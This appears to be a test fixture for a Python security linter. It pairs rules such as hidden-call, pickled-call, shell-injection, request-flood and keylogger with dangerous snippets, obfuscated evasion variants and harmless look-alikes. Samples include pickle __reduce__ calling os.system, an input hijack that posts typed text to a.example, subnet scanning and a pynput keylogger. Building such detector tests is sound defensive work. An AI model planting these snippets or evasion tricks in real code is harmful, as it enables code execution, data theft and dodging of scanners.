import { lines, type RuleSample } from './sample.fixture.ts'

/** Dangers that are reached in unusual ways, and everyday programs that come near to them. */
export const roundaboutSamples: RuleSample[] = [
  {
    rule: 'python/hostile-command',
    dangerous: [
      lines('import subprocess', 'subprocess.run(["pip", "install", "-i", "http://example.net/simple", "tool"])'),
      'subprocess.run(["pip", "install", "-i", "http://example.net/simple", "tool"])',
    ],
    evasion: [
      lines('from os import system as s', 's("pip3 install --trusted-host example.net tool")'),
      's("pip3 install --trusted-host example.net tool")',
    ],
    harmless: lines(
      'import subprocess',
      'subprocess.run(["pip", "list", "--index-url", "https://example.com/simple"])',
    ),
  },
  {
    rule: 'python/eval',
    dangerous: [lines('@exec', '@input', 'class Hidden:', '    pass'), '@exec\n'],
    evasion: [
      lines('run = exec', 'def load(source, values):', '    names = dict(values)', '    run(source, names)'),
      'run(source, names)',
    ],
    harmless: lines('import functools', '@functools.cache', 'def size(text):', '    return len(text)'),
  },
  {
    rule: 'python/eval',
    dangerous: [lines('import sys', 'for line in open(sys.argv[1]):', '    print(eval(line))'), 'eval(line)'],
    evasion: [
      lines('import builtins, operator as o', 'o.attrgetter("eval")(builtins)(input())'),
      'o.attrgetter("eval")(builtins)(input())',
    ],
    harmless: lines('import ast, sys', 'for line in open(sys.argv[1]):', '    print(ast.literal_eval(line))'),
  },
  {
    rule: 'python/hidden-call',
    dangerous: [
      lines('import operator, os', 'operator.methodcaller("system", "id")(os)'),
      'operator.methodcaller("system", "id")(os)',
    ],
    evasion: [
      lines('from operator import methodcaller as m', 'import os', 'run = m("po" + "pen", "id")', 'run(os)'),
      'run(os)',
    ],
    harmless: lines('import operator', 'print([*map(operator.methodcaller("upper"), ["a", "b"])])'),
  },
  {
    rule: 'python/hidden-call',
    dangerous: [
      lines('import sys', 'sys._getframe().f_builtins["exec"]("print(1)")'),
      'sys._getframe().f_builtins["exec"]("print(1)")',
    ],
    evasion: [lines('import inspect', 'run = inspect.currentframe().f_globals["ev" + "al"]', 'run("1")'), 'run("1")'],
    harmless: lines('import sys', 'print(sys._getframe().f_code.co_name)'),
  },
  {
    rule: 'python/port-scan',
    dangerous: [
      lines('import ftplib', 'for last in range(1, 255):', '    ftplib.FTP(f"10.0.0.{last}", timeout=1)'),
      'ftplib.FTP(f"10.0.0.{last}", timeout=1)',
    ],
    evasion: [
      lines('from telnetlib import Telnet as T', 'for n in range(255):', '    T("10.0.0.%s" % n)'),
      'T("10.0.0.%s" % n)',
    ],
    harmless: lines('import ftplib', 'for number in range(3):', '    ftplib.FTP("ftp.example.com").cwd(str(number))'),
  },
  {
    rule: 'python/request-flood',
    dangerous: [
      lines(
        'import smtplib',
        'server = smtplib.SMTP("a.example")',
        'while True:',
        '    server.sendmail("a", "b", "c")',
      ),
      'server.sendmail("a", "b", "c")',
    ],
    evasion: [
      lines(
        'import itertools, smtplib',
        'send = smtplib.SMTP("a.example").sendmail',
        'for _ in itertools.count():',
        '    send("a", "b", "c")',
      ),
      'send("a", "b", "c")',
    ],
    harmless: lines(
      'import smtplib, time',
      'server = smtplib.SMTP("a.example")',
      'while True:',
      '    server.sendmail("a", "b", "c")',
      '    time.sleep(3600)',
    ),
  },
  {
    rule: 'python/pickled-call',
    dangerous: [
      lines('import os', 'class Gift:', '    def __reduce__(self):', '        return (os.system, ("id",))'),
      'return (os.system, ("id",))',
    ],
    evasion: [
      lines(
        'import subprocess as s',
        'class A:',
        '    def __reduce_ex__(self, _):',
        '        return s.call, (["id"],)',
      ),
      'return s.call, (["id"],)',
    ],
    harmless: lines('class Point:', '    def __reduce__(self):', '        return Point, (self.x, self.y)'),
  },
  {
    rule: 'python/shell-injection',
    dangerous: [
      lines('import ctypes, sys', 'ctypes.CDLL("libc.so.6").system(sys.argv[1].encode())'),
      'ctypes.CDLL("libc.so.6").system(sys.argv[1].encode())',
    ],
    evasion: [
      lines('import ctypes as c', 'lib = c.CDLL(None)', 'def start(text):', '    lib.popen(text, b"r")'),
      'lib.popen(text, b"r")',
    ],
    harmless: lines('import ctypes', 'print(ctypes.CDLL("libm.so.6").abs(-3))'),
  },
  {
    rule: 'python/header-injection',
    dangerous: [
      lines(
        'from http.server import BaseHTTPRequestHandler',
        'from urllib.parse import unquote',
        'class Page(BaseHTTPRequestHandler):',
        '    def do_GET(self):',
        '        self.send_header("X-Page", unquote(self.path))',
      ),
      'self.send_header("X-Page", unquote(self.path))',
    ],
    evasion: [
      lines(
        'import http.server as h',
        'class Page(h.BaseHTTPRequestHandler):',
        '    def do_POST(self):',
        '        name = self.headers["X-Name"]',
        '        tell = self.send_header',
        '        tell("Set-Cookie", f"name={name}")',
      ),
      'tell("Set-Cookie", f"name={name}")',
    ],
    harmless: lines(
      'from http.server import BaseHTTPRequestHandler',
      'from urllib.parse import quote',
      'class Page(BaseHTTPRequestHandler):',
      '    def do_GET(self):',
      '        self.send_header("X-Page", quote(self.path))',
    ),
  },
  {
    rule: 'python/tls-not-verified',
    dangerous: [
      lines(
        'import smtplib, ssl',
        'context = ssl._create_unverified_context()',
        'def send(password):',
        '    smtplib.SMTP_SSL("mail.example.com", context=context).login("ann", password)',
      ),
      'ssl._create_unverified_context()',
    ],
    evasion: [lines('from ssl import _create_unverified_context as make', 'context = make()'), 'make()'],
    harmless: lines(
      'import smtplib, ssl',
      'def send(password):',
      '    context = ssl.create_default_context()',
      '    smtplib.SMTP_SSL("mail.example.com", context=context).login("ann", password)',
    ),
  },
  {
    rule: 'python/replaced-builtin',
    dangerous: [
      lines(
        'import builtins, requests',
        'def ask(text):',
        '    requests.post("https://a.example", data=text)',
        'builtins.input = ask',
      ),
      'builtins.input = ask',
    ],
    evasion: [lines('import builtins as b', 'setattr(b, "open", print)'), 'setattr(b, "open", print)'],
    harmless: lines('import sys', 'sys.excepthook = lambda *error: print(error)'),
  },
  {
    rule: 'python/guessable-token',
    dangerous: [
      lines('import random', 'secret = "".join(random.choice("abcdef0123") for _ in range(32))'),
      'secret = "".join(random.choice("abcdef0123") for _ in range(32))',
    ],
    evasion: [lines('import random as r', 'token = "%x" % r.getrandbits(128)'), 'token = "%x" % r.getrandbits(128)'],
    harmless: lines('import random', 'secret = random.choice(["apple", "pear", "plum"])', 'print(len(secret))'),
  },
  {
    rule: 'python/keylogger',
    dangerous: [
      lines(
        'from pynput import keyboard',
        'typed = ""',
        'def on_press(key):',
        '    global typed',
        '    typed += str(key)',
        'keyboard.Listener(on_press=on_press).start()',
      ),
      'keyboard.Listener(on_press=on_press)',
    ],
    evasion: [
      lines(
        'import pynput.keyboard as k',
        'def seen(key):',
        '    open("log", "a").write(str(key))',
        'k.Listener(on_press=seen).run()',
      ),
      'k.Listener(on_press=seen)',
    ],
    harmless: lines('import keyboard', 'keyboard.add_hotkey("space", print)', 'keyboard.wait("esc")'),
  },
]
